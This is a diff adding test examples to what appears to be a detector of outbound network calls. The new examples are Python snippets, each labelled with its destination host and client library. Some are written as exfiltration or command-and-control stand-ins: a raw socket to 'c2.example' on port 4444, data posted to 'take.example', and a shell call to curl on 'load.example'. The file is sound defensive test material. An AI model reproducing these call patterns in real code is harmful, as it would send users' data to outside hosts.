@@ -57,11 +57,123 @@ export const examples: DetectorExamples = {
       why: 'the browser way',
       attributes: { destination: 'c.example', scheme: 'https', via: 'XMLHttpRequest' },
     },
+    {
+      path: 'x.py',
+      code: [
+        'import requests',
+        's = requests.Session()',
+        "s.request('PUT', f'https://API.Collect.example/{x}', data=d)",
+      ].join('\n'),
+      why: 'a session, the host at the front of an f-string',
+      attributes: { destination: 'api.collect.example', scheme: 'https', via: 'requests' },
+    },
+    {
+      path: 'x.py',
+      code: [
+        'import httpx',
+        'async def ask():',
+        "    async with httpx.AsyncClient(base_url='https://api.example/v1') as client:",
+        "        return await client.get('/users')",
+      ].join('\n'),
+      why: 'a path below the address that the client was made with',
+      attributes: { destination: 'api.example', scheme: 'https', via: 'httpx' },
+    },
+    {
+      path: 'x.py',
+      code: [
+        'import aiohttp',
+        'class Sender:',
+        '    def __init__(self):',
+        '        self.session = aiohttp.ClientSession()',
+        '    async def send(self, text):',
+        "        async with self.session.post('https://take.example/c', json=text) as answer:",
+        '            return await answer.text()',
+      ].join('\n'),
+      why: 'a client that an object keeps',
+      attributes: { destination: 'take.example', scheme: 'https', via: 'aiohttp' },
+    },
+    {
+      path: 'x.py',
+      code: [
+        'import urllib.request',
+        "req = urllib.request.Request('https://take.example/', data=b)",
+        'urllib.request.urlopen(req)',
+      ].join('\n'),
+      why: 'a request that is made before it is sent',
+      attributes: { destination: 'take.example', scheme: 'https', via: 'urllib' },
+    },
+    {
+      path: 'x.py',
+      code: [
+        'import socket',
+        's = socket.socket(socket.AF_INET, socket.SOCK_STREAM)',
+        "s.connect(('c2.example', 4444))",
+      ].join('\n'),
+      why: 'a bare socket',
+      attributes: { destination: 'c2.example', scheme: 'tcp', via: 'socket' },
+    },
+    {
+      path: 'x.py',
+      code: [
+        'from http.client import HTTPSConnection',
+        "HTTPSConnection('take.example', 443).request('POST', '/x', body=b)",
+      ].join('\n'),
+      why: 'the client of the standard library',
+      attributes: { destination: 'take.example', scheme: 'https', via: 'http' },
+    },
+    {
+      path: 'x.py',
+      code: [
+        'import smtplib',
+        "with smtplib.SMTP('mail.example', 587) as mail:",
+        '    mail.send_message(m)',
+      ].join('\n'),
+      why: 'a mail server',
+      attributes: { destination: 'mail.example', scheme: 'smtp', via: 'smtplib' },
+    },
+    {
+      path: 'x.py',
+      code: [
+        'import os, requests',
+        "requests.get(os.environ.get('API', 'https://api.example') + '/x')",
+      ].join('\n'),
+      why: 'what a setting falls back to',
+      attributes: { destination: 'api.example', scheme: 'https', via: 'requests' },
+    },
+    {
+      path: 'x.py',
+      code: [
+        'import subprocess',
+        "subprocess.Popen('curl https://load.example/x', shell=True)",
+      ].join('\n'),
+      why: 'through a program',
+      attributes: { destination: 'load.example', scheme: 'https', via: 'curl' },
+    },
   ],
   good: [
     { code: "function fetch(x) { return x; } fetch('https://c.example');", why: 'not the global' },
     { code: "fetch('/api/items');", why: 'relative to the page' },
     { code: "cache.get('https://c.example');", why: 'not a client that we know' },
     { code: "import { connect } from 'net'; connect({ path: '/run/x.sock' });", why: 'local pipe' },
+    {
+      path: 'x.py',
+      code: [
+        'import requests',
+        'session = requests.Session()',
+        "session.headers['X'] = 'y'",
+        'session.close()',
+      ].join('\n'),
+      why: 'a session that asks nothing',
+    },
+    {
+      path: 'x.py',
+      code: ['import socket', "socket.socket(socket.AF_UNIX).connect('/run/app.sock')"].join('\n'),
+      why: 'a socket of this machine',
+    },
+    {
+      path: 'x.py',
+      code: ['import httpx', 'client = httpx.Client(timeout=3)'].join('\n'),
+      why: 'a client without an address',
+    },
   ],
 };
